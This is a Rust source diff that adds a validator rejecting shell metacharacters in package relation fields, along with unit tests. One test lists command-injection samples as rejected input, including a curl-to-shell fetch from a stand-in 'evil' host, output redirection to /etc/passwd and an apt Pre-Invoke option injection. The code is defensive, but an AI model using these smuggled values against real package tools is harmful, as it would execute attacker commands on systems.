@@ -85,4 +85,124 @@ impl Obstacle {
     pub fn is_wanted_by_playbook(&self) -> bool {
         self.by.as_deref() == Some(PLAYBOOK)
     }
+
+    /// Whether every field is what it should be: names, versions and relations, and nothing that a shell would run.
+    /// The relations of packages are a host's own words, and obstacles become commands of the advice.
+    pub(super) fn is_sound(&self) -> bool {
+        let word = |text: &str| {
+            let brackets = text.starts_with('(') && text.ends_with(')');
+            (brackets || !text.contains(' ')) && !text.contains('|') && is_relation(text)
+        };
+        let by = |by: &String| by == PLAYBOOK || word(by);
+        let texts = [&self.needs, &self.observed, &self.candidate];
+        word(&self.subject)
+            && self.by.as_ref().is_none_or(by)
+            && texts.into_iter().flatten().all(|text| is_relation(text))
+    }
+}
+
+/// How long a relation may be; real ones have some dozens of alternatives.
+const LONGEST: usize = 4000;
+
+/// Whether a text is made of names, versions and the signs between them: `a (>= 2) | b`, `libweb>=3`,
+/// `libfoo.so.1()(64bit)`, `/usr/bin/x`, with plain words in between.
+fn is_relation(text: &str) -> bool {
+    let mut bound = false;
+    let mut each = text.split(' ').filter(|part| !part.is_empty());
+    !text.is_empty()
+        && text.len() <= LONGEST
+        && each.all(|part| {
+            let inside = part.trim_start_matches('(').trim_end_matches(',');
+            let sign = is_sign(inside);
+            let fits = match (bound, part) {
+                (true, _) => is_version(inside.trim_end_matches(')')),
+                (false, "|") => true,
+                (false, _) => sign || is_bounded(inside),
+            };
+            bound = sign;
+            fits
+        })
+        && !bound
+}
+
+/// `>=`
+fn is_sign(text: &str) -> bool {
+    (1..=2).contains(&text.len()) && text.chars().all(|one| matches!(one, '<' | '>' | '=' | '~'))
+}
+
+/// `libweb`, or `libweb>=3`.
+fn is_bounded(text: &str) -> bool {
+    let Some((name, rest)) = text.find(['<', '>', '=']).and_then(|at| text.split_at_checked(at)) else {
+        return is_name(text);
+    };
+    let version = rest.trim_start_matches(['<', '>', '=']);
+    let sign = rest.len().saturating_sub(version.len());
+    is_name(name) && sign <= 2 && is_version(version.trim_end_matches(')'))
+}
+
+fn is_name(text: &str) -> bool {
+    let bare = text.strip_prefix('!').unwrap_or(text);
+    let begins = |first: char| first.is_ascii_alphanumeric() || matches!(first, '_' | '/');
+    bare.starts_with(begins)
+        && bare.bytes().all(|one| one.is_ascii_alphanumeric() || b"+-._@:~^/()".contains(&one))
+}
+
+fn is_version(text: &str) -> bool {
+    let begins = |first: char| first.is_ascii_alphanumeric() || first == '_';
+    text.starts_with(begins)
+        && text.bytes().all(|one| one.is_ascii_alphanumeric() || b".+~:^_-".contains(&one))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn relations_of_every_system_and_our_own_sentences_are_sound() {
+        for text in [
+            "libssl3t64 (>= 3.3.0)",
+            "a (>= 2) | b:any (<< 2:1.0~rc1-1+b2), and c",
+            "Breaks: php (<< 9)",
+            "php (>= 9) for nginx, and php (<< 9) for perl, and 2-1 as it was asked for",
+            "libfoo.so.1()(64bit)",
+            "libc.so.6(GLIBC_2.34)(64bit)",
+            "perl(Foo::Bar) >= 1.2",
+            "(moon or sun >= 2)",
+            "/usr/bin/x",
+            "libweb>=3",
+            "so:libnone.so.3",
+            "app needs webd<2, webd 2.0-r0",
+            "webd 4.0-1.el9 together with oldweb 1:1.0-1.el9",
+            "ng (which provides it without a version)",
+        ] {
+            assert!(is_relation(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_a_shell_would_run_is_not() {
+        for text in [
+            "libssl$(curl${IFS}evil|sh)",
+            "libssl`id`",
+            "libssl;id",
+            "libssl&&id",
+            "libssl|sh",
+            "libssl > /etc/passwd",
+            "libssl (>= $(id))",
+            "libssl>/etc/passwd",
+            "libssl >",
+            "-oDPkg::Pre-Invoke::=id",
+            "libssl (>= -y)",
+            "'libssl'",
+            "libssl\\x",
+            "lib*",
+            "",
+        ] {
+            assert!(!is_relation(text), "{text}");
+            assert!(!Obstacle::new(Kind::Held, text).is_sound(), "{text}");
+            let by = Obstacle { by: Some(text.to_owned()), ..Obstacle::new(Kind::Held, "nginx") };
+            assert!(!by.is_sound(), "{text}");
+        }
+        assert!(!Obstacle::new(Kind::Held, "nginx openssl").is_sound(), "two names are none");
+    }
 }
